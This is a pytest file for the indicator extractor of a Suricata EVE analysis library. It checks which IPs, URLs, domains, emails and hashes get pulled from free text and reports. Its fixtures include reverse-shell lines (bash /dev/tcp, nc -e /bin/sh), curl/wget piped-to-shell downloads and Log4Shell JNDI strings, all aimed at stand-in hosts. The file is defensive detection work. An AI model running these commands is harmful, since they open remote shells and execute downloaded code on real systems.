"""What is an indicator in free text, and what only looks like one."""

from __future__ import annotations

from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest

import suricata_eve
from suricata_eve import EveOptionError, EveTypeError, find_indicators
from suricata_eve.analysis.iocs.finding import find_in_texts
from suricata_eve.analysis.iocs.kinds import KINDS


def found(text: str, **options: Any) -> set[tuple[str, str]]:
    """Return kind and indicator of what is in a text of events."""
    finds = find_in_texts(pa.array([text], pa.large_string()), **options)
    return {
        (KINDS[kind], value)
        for kind, value in zip(finds.kinds.tolist(), finds.indicators.to_pylist(), strict=True)
    }


def ipv4(*values: str) -> set[tuple[str, str]]:
    return {("ipv4", value) for value in values}


def linked(url: str, host: str, kind: str = "domain") -> set[tuple[str, str]]:
    return {("url", url), (kind, host)}


@pytest.mark.parametrize(
    "text",
    [
        "Mozilla/5.0 (X11) AppleWebKit/537.36 Chrome/96.0.4664.110 Safari/537.36",
        "Chrome/79.0.39.117 Firefox/3.6.3.2",
        "rv:1.9.1.2) Gecko/20100101",
        "MSIE 7.0.5.1; Android 4.4.2.1; Version=5.0.1.2; v 1.2.3.4; release: 8.1.2.3",
        "0.21.5.110",
        "1.3.6.1.2.1.1.1.0",
        "192.0.2.256",
        "x192.0.2.1",
        "192.0.2.1x",
        "192.0.2.1-2",
        "tool-192.0.2.1.tgz",
        "192.0.2.0/24",
        "%201.2.3.4",
        "/ajax/libs/thing/9.1.2.3/thing.min.js",
        "1.2.3.4.5.6.7.8",
        "1.2.3.04",
        "12:30:45",
        "02:00:5e:20:00:01",
        "df:e2:f0:01:dc:2d:fe:4d:6e:57:4d:90:77:27:96:21:3a:a6:42:22",
        "2b:a2:f5:3b:b5:85:83:75",
        "std::string Foo::Bar a::b dead::beef ::",
        "lh.sh install.sh a.ps1 index.php evil.example.com",
        "icon@2x.png @media react@16.0.1 @example.com/owa/",
        "autodiscover.json%3F@example.com",
        "x@main.go y@module.ts z@run.ps1",
        f"{'a' * 65}@example.com mail%3Danna%40example.com",
        "http://a.example.com:65536/",
        "http://user:pass@localhost/",
        "aes128-gcm@openssh.com,curve25519-sha256@libssh.org,rijndael-cbc@lysator.liu.se",
        "sip:user@example.com",
        "http://${hostName}.q7f3.cb.example.net/",
        "http://a.${hostName}.cb.example.net/ http://a.example.$x/ http://a.example.com%00.net",
        "http://a.example.com\u202e.net/ http://a.example.com\u00e4.net/ x@a.example.com\u00e4.net",
        "\u00e4x@\u00e4.example.com",
        "http://localhost/ http://a/ http://1.2.3/ http://-a.example.com/",
        "http:// http://? ://a.example.com http://index.html/ http://x.min.js",
        "shttp://a.example.com/",
        "file:///etc/passwd",
        "d41d8cd98f00b204e9800998ecf8427e",
        "Skype 8.55.0.123 (Win); Dropbox 2.3.12.10; FileZilla 3.5.2.1; FreePBX 15.0.16.45",
        "appver=2.3.4.5&app_version=2.3.4.5&sdkVersion=1.2.3.4&os_ver: 1.1.1.1",
        "<version>1.2.3.4</version> <a version='6.1.0.0'/> firmware 1.0.11.134 section 4.1.2.3",
        "iso.3.6.1 1.3.6.1",
        "abc::123 add::1 dec::100 ac10::5 1:2:3:4:5:6:7:8 abcd::ef:12",
        "2001:db8::/32",
        "http://www.goo... http://www.example.c\u2026 http://a.example.com..",
        "Message-ID: <12.ab@mail.example.com>\r\nIn-Reply-To: <x@y.example.com>",
        'cid:part1@example.com "mid:x@example.com"',
        "git@git.example.com:user/x.git a.b@c.example.com(1)",
        "o'brien@example.com user:password@example.com",
        "host/a.example.com@B.COM krbtgt/X.COM@X.COM",
        "",
        "\x00\x01\x02",
    ],
)
def test_what_only_looks_like_one_is_none(text: str) -> None:
    assert found(text) == set()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("192.0.2.1", ipv4("192.0.2.1")),
        ("a 192.0.2.1, 192.0.2.2;192.0.2.3\n", ipv4("192.0.2.1", "192.0.2.2", "192.0.2.3")),
        ("192.0.2.1,192.0.2.2", ipv4("192.0.2.1", "192.0.2.2")),
        ("from 192.0.2.1.", ipv4("192.0.2.1")),
        ("192.0.2.1:80 [192.0.2.2] <192.0.2.3>", ipv4("192.0.2.1", "192.0.2.2", "192.0.2.3")),
        ("?ip=192.0.2.1&x", ipv4("192.0.2.1")),
        ("v=spf1 ip4:198.51.100.20 -all", ipv4("198.51.100.20")),
        ("\\\\198.51.100.20\\IPC$", ipv4("198.51.100.20")),
        ("sip:100@198.51.100.20", ipv4("198.51.100.20")),
        ("${jndi:${lower:l}${lower:d}ap://192.0.2.66:1389/a}", ipv4("192.0.2.66")),
        ("bash -i >& /dev/tcp/192.0.2.66/4444 0>&1", ipv4("192.0.2.66")),
        (
            "to [2001:db8::1] and 2001:DB8:0:0::2",
            {("ipv6", "2001:db8::1"), ("ipv6", "2001:db8::2")},
        ),
        ("fe80::1", {("ipv6", "fe80::1")}),
        ("a Anna.B+x@Example.COM.", {("email", "Anna.B+x@example.com"), ("domain", "example.com")}),
        ("<a@example.com>", {("email", "a@example.com"), ("domain", "example.com")}),
        ("mail=a%40example.com&", {("email", "a@example.com"), ("domain", "example.com")}),
        ("HTTP://WWW.Example.com", linked("http://www.example.com/", "www.example.com")),
        ("http://a.example.com:80/x", linked("http://a.example.com/x", "a.example.com")),
        ("http://a.example.com:8080?x", linked("http://a.example.com:8080/?x", "a.example.com")),
        ("see http://a.example.com/x.", linked("http://a.example.com/x", "a.example.com")),
        ("(http://a.example.com/x_(y))", linked("http://a.example.com/x_(y)", "a.example.com")),
        ("[x](http://a.example.com/y)", linked("http://a.example.com/y", "a.example.com")),
        ('href="http://a.example.com/y"', linked("http://a.example.com/y", "a.example.com")),
        ("http://a.example.com/;x=1", linked("http://a.example.com/;x=1", "a.example.com")),
        ("http://192.0.2.1/a.sh;chmod +x", linked("http://192.0.2.1/a.sh", "192.0.2.1", "ipv4")),
        ("http://a.example.com/\u00e4", linked("http://a.example.com/%C3%A4", "a.example.com")),
        (
            "http://a.example.com/\u202egpj",
            linked("http://a.example.com/%E2%80%AEgpj", "a.example.com"),
        ),
        ("http://a.example.com/\x1b[2J", linked("http://a.example.com/", "a.example.com")),
        ("http://u:p@a.example.com/", linked("http://u:p@a.example.com/", "a.example.com")),
        (
            "${jndi:ldap://[2001:db8:bad::77]:1389/a}",
            linked("ldap://[2001:db8:bad::77]:1389/a", "2001:db8:bad::77", "ipv6"),
        ),
        (
            "hxxps[://]a[.]example(.)com/x b[@]example[dot]com 192[.]0[.]2[.]1",
            linked("https://a.example.com/x", "a.example.com")
            | {("email", "b@example.com"), ("domain", "example.com")}
            | ipv4("192.0.2.1"),
        ),
        (
            "http://a.example.com/r?u=http://b.example.com/y&z=1",
            linked("http://a.example.com/r?u=http://b.example.com/y&z=1", "a.example.com")
            | linked("http://b.example.com/y", "b.example.com"),
        ),
        (
            "/r?u=https%3A%2F%2Fb.example.com%2Fy&z=1",
            linked("https://b.example.com/y", "b.example.com"),
        ),
        ("....http://a.example.com/x.crl0...U", {("domain", "a.example.com")}),
        ("...http://a.example.com/x.crl0\r..*.H..", {("domain", "a.example.com")}),
        ("see http://a.example.com/very/lo...", {("domain", "a.example.com")}),
        ("see http://a.example.com/very/lo\u2026", {("domain", "a.example.com")}),
        ("`http://a.example.com/${file}`", {("domain", "a.example.com")}),
        ("bot/1.0 (+http://a.example.com/b)", linked("http://a.example.com/b", "a.example.com")),
        ("bot/1.0; +http://a.example.com)", linked("http://a.example.com/", "a.example.com")),
        ("git+https://a.example.com/x", linked("https://a.example.com/x", "a.example.com")),
        ("stratum+tcp://a.example.com:3333", linked("tcp://a.example.com:3333", "a.example.com")),
        (
            "/shell?cd+/tmp;wget+http://192.0.2.1:88/Mozi.m+-O+/tmp/x;sh+x&c=/",
            linked("http://192.0.2.1:88/Mozi.m", "192.0.2.1", "ipv4"),
        ),
        (
            "/x?cmd=wget%20http://192.0.2.1/a%20-O%20/tmp/a",
            linked("http://192.0.2.1/a", "192.0.2.1", "ipv4"),
        ),
        ("?x=%22http://192.0.2.1/a%22", linked("http://192.0.2.1/a", "192.0.2.1", "ipv4")),
        ("/${jndi:ldap://192.0.2.1/a%7D", linked("ldap://192.0.2.1/a", "192.0.2.1", "ipv4")),
        (
            "wget${IFS}http://192.0.2.1/a${IFS}-O$IFS$9b",
            linked("http://192.0.2.1/a", "192.0.2.1", "ipv4"),
        ),
        (
            r'{"u":"http:\/\/a.example.com\/x?y=1\u0026z=2"}',
            linked("http://a.example.com/x?y=1&z=2", "a.example.com"),
        ),
        (r'"http://a.example.com/x\nmore"', linked("http://a.example.com/x", "a.example.com")),
        (
            "http://a.example.com/x?y=1&amp;z=2",
            linked("http://a.example.com/x?y=1&z=2", "a.example.com"),
        ),
        ("&quot;http://a.example.com/x&quot;", linked("http://a.example.com/x", "a.example.com")),
        ("http://a.example.com/x&gt;&lt;", linked("http://a.example.com/x", "a.example.com")),
        (
            "http://a.example.com/x,http://b.example.com/y",
            linked("http://a.example.com/x", "a.example.com")
            | linked("http://b.example.com/y", "b.example.com"),
        ),
        ("?u=http://a.example.com/x&y=1\u2026", linked("http://a.example.com/x", "a.example.com")),
        ("ftp://x@a.example.com/y", linked("ftp://x@a.example.com/y", "a.example.com")),
        ("ftp://a.example.com:65535/", linked("ftp://a.example.com:65535/", "a.example.com")),
        ("Client 192.0.2.1 asks Server 192.0.2.2", ipv4("192.0.2.1", "192.0.2.2")),
        ("server=192.0.2.1 SIP/2.0/UDP 192.0.2.2:5060", ipv4("192.0.2.1", "192.0.2.2")),
        ("Proxy9 192.0.2.1:8080 -r x 192.0.2.2", ipv4("192.0.2.1", "192.0.2.2")),
        ("rua=mailto:a@example.com", {("email", "a@example.com"), ("domain", "example.com")}),
        ("/u/a@example.com", {("email", "a@example.com"), ("domain", "example.com")}),
        ("email:a@example.com", {("email", "a@example.com"), ("domain", "example.com")}),
        ("'a@example.com'", {("email", "a@example.com"), ("domain", "example.com")}),
    ],
)
def test_what_is_one_is_found_whole(text: str, expected: set[tuple[str, str]]) -> None:
    assert found(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("curl -s cb.example.net:5874/x", {"cb.example.net"}),
        ("wget -q -O- cb.example.net/x.sh|sh", {"cb.example.net"}),
        ("nc -nv cb.example.net 4444 -e /bin/sh", {"cb.example.net"}),
        ("exec 5<>/dev/tcp/cb.example.net/443", {"cb.example.net"}),
        ("nc -e /bin/sh cb.example.net 4444", {"cb.example.net"}),
        (
            "curl -fsSL cb.example.net|sh; wget -qO- b.example.net",
            {"cb.example.net", "b.example.net"},
        ),
        ("curl -o lh.sh; wget index.html; curl x.y.zip.txt", set()),
        ("cd /tmp; tar xzf m.tar.gz; ./m/run; sh lh.sh", set()),
        ("cat a.sh/b cb.example.net/x", set()),
        ("curl -o x.php:1 index.html/a", set()),
    ],
)
def test_a_bare_name_is_a_host_where_a_command_connects(text: str, expected: set[str]) -> None:
    assert {value for _, value in found(text, commands=True)} == expected
    assert found(text) == set()


def test_reports_have_hashes_and_names_that_were_meant() -> None:
    text = (
        "SHA256: " + "aB" * 32 + ", md5 " + "c" * 32 + " sha1=" + "0" * 40 + "; not " + "d" * 33
        + " x" + "e" * 32 + " evil[.]example[.]com cb.example(dot)net plain.example.org"
    )  # fmt: skip
    table = find_indicators(text)

    assert table["kind"].tolist() == ["domain", "domain", "md5", "sha1", "sha256"]
    assert table["indicator"].tolist() == [
        "cb.example.net",
        "evil.example.com",
        "c" * 32,
        "0" * 40,
        "ab" * 32,
    ]
    assert table["scope"].isna().tolist() == [False, False, True, True, True]


@pytest.mark.parametrize("scheme", ["hxxp", "hXXp", "h**p", "h__p", "h[xx]p", "h[tt]p", "meow"])
def test_urls_of_reports_are_found_however_they_are_defanged(scheme: str) -> None:
    for host in ("a.example.com", "a[.]example[.]com", "a.example(dot)com"):
        for mark in ("://", "[:]//", "[://]"):
            found = find_indicators(f"It loads {scheme}{mark}{host}/x.sh, then stops.")

            assert found["indicator"].tolist() == ["a.example.com", "http://a.example.com/x.sh"]


def test_names_before_addresses_are_of_malware_in_reports_and_of_products_in_events() -> None:
    assert found("Emotet 192.0.2.1") == set()
    assert found("Emotet 192.0.2.1", report=True) == ipv4("192.0.2.1")


def test_what_is_there_often_is_found_once() -> None:
    """Else a payload that thousands of events have would fill the memory."""
    text = "192.0.2.1 http://a.example.com/ x@a.example.com " * 100
    finds = find_in_texts(pa.array([text, text[:31]], pa.large_string()))

    assert np.bincount(finds.texts).tolist() == [4, 3]


@pytest.mark.parametrize("between", [",", "|", ";", "\n", '","', "</a>", "\\n"])
def test_a_long_list_of_urls_is_found_whole(between: str) -> None:
    urls = [f"http://{letter}.example.com/x" for letter in "abcdefghij"]
    table = find_indicators(between.join(urls), "url")

    assert table["indicator"].tolist() == urls


def test_find_indicators_keeps_the_labels_of_texts() -> None:
    texts = pd.Series(["192.0.2.1 192.0.2.1", None, "", "192.0.2.1 a@b.com"], index=list("abca"))
    table = find_indicators(texts)

    expected = pd.DataFrame(
        {
            "kind": ["ipv4", "ipv4", "domain", "email"],
            "indicator": ["192.0.2.1", "192.0.2.1", "b.com", "a@b.com"],
            "scope": ["documentation", "documentation", "global", "global"],
        },
        index=list("aaaa"),
        dtype=pd.ArrowDtype(pa.string()),
    )
    pd.testing.assert_frame_equal(table, expected, check_index_type=False)
    pd.testing.assert_frame_equal(find_indicators(texts, "email"), expected.iloc[3:])


@pytest.mark.parametrize("nothing", [[], "", [None], np.array([], dtype=object), pd.Series([""])])
def test_no_text_gives_the_same_columns(nothing: Any) -> None:
    table = find_indicators(nothing)

    assert len(table) == 0
    assert {name: str(kind) for name, kind in table.dtypes.items()} == dict.fromkeys(
        ["kind", "indicator", "scope"], "string[pyarrow]"
    )


@pytest.mark.parametrize("wrong", [5, [["a"]], None, [{"a": 1}]])
def test_what_is_no_text_is_refused(wrong: Any) -> None:
    with pytest.raises(EveTypeError, match="find_indicators"):
        find_indicators(wrong)


def test_a_wrong_kind_is_refused() -> None:
    with pytest.raises(EveOptionError, match=r"'ip'; choose from 'ipv4'"):
        find_indicators("x", ["ipv4", "ip"])  # type: ignore[list-item]


UNITS = ["a.", "1.1.", "a@", "hxxp://", "a[.]", "http://a.b/(", "-", "::", "a:", "http://", "["]
UNITS += ["ldap://a.bc/?u=", "\u202e", "http%3A%2F%2Fa.bc%2F?u=", "1.2.3.4,", "/dev/tcp/a.bc"]


@pytest.mark.parametrize("unit", UNITS)
def test_a_megabyte_of_a_hostile_text_is_searched(unit: str) -> None:
    """No more comes out than a list of what is there, each of bounded length."""
    text = unit * (1_000_000 // len(unit))
    finds = find_in_texts(pa.array([text], pa.large_string()), report=True, commands=True)

    assert all(len(value) <= 8_192 for value in set(finds.indicators.to_pylist()))


def test_what_comes_out_is_safe_to_look_at(sample7: pd.DataFrame, sample8: pd.DataFrame) -> None:
    for sample in (sample7, sample8):
        values = suricata_eve.analysis.indicators(sample)["indicator"]

        assert values.str.match(r"^[!-~]+$").all()
        assert not values.str.contains(r"[\"<>\\^`{|}]").any()
